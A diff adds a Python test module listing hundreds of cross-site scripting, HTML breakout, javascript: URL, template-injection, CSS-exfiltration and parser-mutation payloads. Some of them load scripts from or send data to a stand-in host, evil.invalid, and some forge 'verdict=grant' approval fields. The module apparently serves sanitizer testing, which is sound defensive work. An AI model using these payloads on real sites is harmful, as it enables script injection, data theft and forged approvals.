@@ -1,0 +1,313 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Texts that would be markup, script, style or template somewhere, if somebody let them.
+
+``RUN`` is what each would run: it sets ``window.pwned``, which no page of ours does. None of them
+needs a network; addresses end in ``.invalid``, which exists nowhere.
+"""
+
+from __future__ import annotations
+
+from typing import Final
+
+__all__ = ["PAYLOADS", "RUN"]
+
+RUN: Final = "window.pwned=1"
+_ALERT: Final = "alert(1)"
+
+_SCRIPTS: Final = (
+    f"<script>{RUN}</script>",
+    f"<SCRIPT>{RUN}</SCRIPT>",
+    f"<ScRiPt >{RUN}</sCrIpT >",
+    f"<script/x>{RUN}</script/x>",
+    f"<script\t>{RUN}</script\t>",
+    f"<script\n>{RUN}</script\n>",
+    f"<script\x0c>{RUN}</script>",
+    f"<<script>{RUN}//<</script>",
+    f"<script>{RUN}",
+    f"<script>/*<script>*/{RUN}</script>",
+    f"<script><!--\n{RUN}\n--></script>",
+    f"<script>//<![CDATA[\n{RUN}\n//]]></script>",
+    f"<script type=module>{RUN}</script>",
+    f'<script type="text/javascript">{RUN}</script>',
+    f"<script nonce>{RUN}</script>",
+    f"<script async>{RUN}</script>",
+    "<script src=//evil.invalid/x.js></script>",
+    "<script src=https://evil.invalid/x.js></script>",
+    f"<script src=data:text/javascript,{RUN}></script>",
+    "<script src=/static/live.js></script>",
+    f'<script type="importmap">{{"imports":{{"x":"data:text/javascript,{RUN}"}}}}</script>',
+    '<script type="speculationrules">{"prerender":[{"urls":["/logout"]}]}</script>',
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
+    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
+    f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
+    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
+    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"%3Cscript%3E{RUN}%3C/script%3E",
+    f"%253Cscript%253E{RUN}%253C/script%253E",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&#60;script&#62;{RUN}&#60;/script&#62;",
+    f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
+    f"&LT;script&GT;{RUN}&LT;/script&GT;",
+    f"&ltscript&gt{RUN}",
+    f"&amp;lt;script&amp;gt;{RUN}",
+)
+
+# What a browser runs without anybody touching anything.
+_EVENTS: Final = tuple(
+    text.replace("JS", js)
+    for js in (RUN, _ALERT)
+    for text in (
+        "<img src=x onerror=JS>",
+        "<img/src=x/onerror=JS>",
+        '<img src="x" onerror="JS">',
+        "<img src='x' onerror='JS'>",
+        "<img src=x onerror=`JS`>",
+        "<IMG SRC=x ONERROR=JS>",
+        "<img src=x onerror\n=\nJS>",
+        "<img src=x onerror\x0b=JS>",
+        "<image src=x onerror=JS>",
+        "<video src=x onerror=JS></video>",
+        "<video><source onerror=JS></video>",
+        "<audio src=x onerror=JS></audio>",
+        "<body onload=JS>",
+        "<body onpageshow=JS>",
+        "<body onhashchange=JS>",
+        "<frameset onload=JS>",
+        "<iframe onload=JS></iframe>",
+        "<object onerror=JS data=x></object>",
+        "<embed src=x onload=JS>",
+        "<link rel=stylesheet href=x onerror=JS>",
+        "<style onload=JS></style>",
+        "<details open ontoggle=JS><summary>x</summary></details>",
+        "<input autofocus onfocus=JS>",
+        "<textarea autofocus onfocus=JS></textarea>",
+        "<select autofocus onfocus=JS></select>",
+        "<button autofocus onfocus=JS>x</button>",
+        "<div tabindex=1 autofocus onfocus=JS>x</div>",
+        "<a href=x autofocus onfocus=JS>x</a>",
+        "<xss autofocus tabindex=1 onfocus=JS></xss>",
+        "<marquee onstart=JS>x</marquee>",
+        "<div style=animation-name:x onanimationstart=JS>x</div>",
+        "<div onmouseover=JS style=position:fixed;inset:0>x</div>",
+        "<dialog open onclose=JS></dialog>",
+        "<div popover id=p onbeforetoggle=JS>x</div><button popovertarget=p>x</button>",
+    )
+)
+
+_SVG_AND_MATHML: Final = (
+    f"<svg onload={RUN}>",
+    f"<svg/onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><script>{RUN.replace('=', '&#61;')}</script></svg>",
+    f"<svg><script href=data:,{RUN} /></svg>",
+    f"<svg><script xlink:href=data:,{RUN}></script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><set onbegin={RUN} attributeName=x>",
+    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>",
+    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
+    "<svg><use href=data:image/svg+xml,x#x /></svg>",
+    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
+    f"<svg><title><img src=x onerror={RUN}></title></svg>",
+    f"<svg><style><img src=x onerror={RUN}></style></svg>",
+    f"<svg><desc><![CDATA[</desc><img src=x onerror={RUN}>]]></desc></svg>",
+    f"</svg><img src=x onerror={RUN}>",
+    f"</title></svg><script>{RUN}</script>",
+    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
+    f"<math href=javascript:{RUN}>x</math>",
+    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
+    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
+)
+
+# What leaves the place it was put into.
+_LEAVERS: Final = (
+    '"',
+    "'",
+    "`",
+    '">',
+    "'>",
+    '"/>',
+    "-->",
+    "*/",
+    "]]>",
+    "</title>",
+    "</textarea>",
+    "</style>",
+    "</script>",
+    "</noscript>",
+    "</template>",
+    "</select>",
+    "</option></select>",
+    "</code></pre>",
+    "</td></tr></table>",
+    "</form>",
+    "</body></html>",
+    "</xmp>",
+    "</plaintext>",
+    "</noembed>",
+    "</iframe>",
+    '"\u2028',
+    "'\u2029",
+    '"\r\n\r\n',
+)
+_BREAKOUTS: Final = (
+    *(f"{way}<img src=x onerror={RUN}>" for way in _LEAVERS),
+    f'" onfocus="{RUN}" autofocus="',
+    f"' onfocus='{RUN}' autofocus='",
+    f'" onmouseover={RUN} x="',
+    f'" style="animation-name:x" onanimationstart="{RUN}',
+    f'x" autofocus onfocus={RUN} x=',
+    f'"onpointerenter="{RUN}',
+    f'\\" onfocus=\\"{RUN}',
+    f"\\';{RUN};//",
+    f'";{RUN};//',
+    f"';{RUN};//",
+    f"`;{RUN};//",
+    f"${{{RUN}}}",
+    f"</script><script>{RUN}</script>",
+    f"\u2028{RUN}\u2029",
+    f"'-{_ALERT}-'",
+    f'"-{_ALERT}-"',
+    '" formaction="https://evil.invalid/" x="',
+    '" form="x" name="verdict" value="grant',
+    '"><input type="hidden" name="verdict" value="grant"><x y="',
+    '"><input name="csrf" value="x"><x y="',
+    '"><base href="https://evil.invalid/"><x y="',
+    '"><form action="https://evil.invalid/" method="post"><x y="',
+    '"><button formaction="https://evil.invalid/">Grant</button><x y="',
+    '<form id="x"></form><button form="x" formaction="https://evil.invalid/">Grant once</button>',
+    '<label for="reason">Grant</label>',
+)
+
+_ADDRESSES: Final = (
+    f"javascript:{RUN}",
+    f"JaVaScRiPt:{RUN}",
+    f"java\tscript:{RUN}",
+    f"java\nscript:{RUN}",
+    f"\x01javascript:{RUN}",
+    f" javascript:{RUN}",
+    f"javascript&colon;{RUN}",
+    f"javascript:/*</script>*/{RUN}",
+    f"//evil.invalid/%0a%0djavascript:{RUN}",
+    f"vbscript:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
+    f"data:image/svg+xml,<svg onload={RUN}>",
+    f"<a href=javascript:{RUN}>x</a>",
+    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
+    f"<iframe src=javascript:{RUN}></iframe>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<object data=javascript:{RUN}></object>",
+    f"<embed src=javascript:{RUN}>",
+    f"<form action=javascript:{RUN}><button>x</button></form>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
+    "<base href=https://evil.invalid/>",
+    "//evil.invalid/",
+    "\\\\evil.invalid\\",
+    "https://evil.invalid/#@console.example",
+    "../../../../logout",
+    "/approvals/x/decision?verdict=grant",
+    f"[x](javascript:{RUN})",
+    "![x](https://evil.invalid/x.png)",
+    "<https://evil.invalid/>",
+)
+
+_TEMPLATES: Final = (
+    "{{7*7}}",
+    "{{ 7 * '7' }}",
+    "{% raw %}{{7*7}}{% endraw %}",
+    "{{config}}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{{ visitor.session.csrf }}",
+    "{{ asked.canonical|safe }}",
+    "{% include 'base.html' %}",
+    "{% set x = exactly('<b>') %}{{ x }}",
+    "{# a comment #}shown?",
+    "{%- endblock -%}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "[[${7*7}]]",
+    "@{7*7}",
+    "*{7*7}",
+    "%(csrf)s {csrf} %s {0}",
+)
+
+_STYLES: Final = (
+    "<style>*{display:none}</style>",
+    "<style>@import 'https://evil.invalid/x.css';</style>",
+    "<style>input[value^=a]{background:url(https://evil.invalid/a)}</style>",
+    '<div style="position:fixed;inset:0;background:url(https://evil.invalid/)">x</div>',
+    '" style="position:fixed;inset:0',
+    "x;}*{display:none}",
+    "expression(window.pwned=1)",
+    "url(javascript:window.pwned=1)",
+    "<link rel=stylesheet href=https://evil.invalid/x.css>",
+    "<link rel=prefetch href=/logout>",
+)
+
+# What changes its meaning when it is read, written and read again.
+_MUTATIONS: Final = (
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    "<math><mtext><table><mglyph><style><!--</style>"
+    f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
+    "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
+    f'<path id="</style><img onerror={RUN} src>">',
+    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
+    f"<template><style></template><img src=x onerror={RUN}></style></template>",
+    f"<select><template><style><!--</style><img src=x onerror={RUN}>--></template></select>",
+    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
+    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
+    f"<![CDATA[<img src=x onerror={RUN}>]]>",
+    f"<!--><img src=x onerror={RUN}>-->",
+    f"<!--{{x}}--!><img src=x onerror={RUN}>",
+    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'/>",
+    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]><x>&y;</x>",
+    f"<div id=x><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
+    "<plaintext>",
+    "<textarea>",
+    "<title>",
+    "<xmp>",
+    "<!--",
+    "<![CDATA[",
+    "</",
+    "<a",
+    "&#",
+    "&#0;&#x0;&#xD800;&#x110000;",
+)
+
+_BYTES: Final = (
+    f"\x00<img src=x onerror={RUN}>",
+    f"<\x00img src=x onerror={RUN}>",
+    f"<img src=x on\x00error={RUN}>",
+    f"\ufeff<script>{RUN}</script>",
+    f"\x1b(B<script>{RUN}</script>",
+    f"\x1b$B<script>{RUN}</script>",
+    f"<img\x0csrc=x\x0conerror={RUN}>",
+    f"<img\u00a0src=x\u00a0onerror={RUN}>",
+    f"\u202e<img src=x onerror={RUN}>",
+    f"<\u200bscript>{RUN}</script>",
+    f"\U000e003cscript\U000e003e{RUN}",
+    f"\ud83d\ude00<img src=x onerror={RUN}>".encode("utf-16", "surrogatepass").decode("utf-16"),
+    "\x07\x08\x7f\x80\x9b31m",
+)
+
+PAYLOADS: Final = tuple(
+    dict.fromkeys(
+        (
+            *_SCRIPTS,
+            *_EVENTS,
+            *_SVG_AND_MATHML,
+            *_BREAKOUTS,
+            *_ADDRESSES,
+            *_TEMPLATES,
+            *_STYLES,
+            *_MUTATIONS,
+            *_BYTES,
+        )
+    )
+)
+"""Each once."""
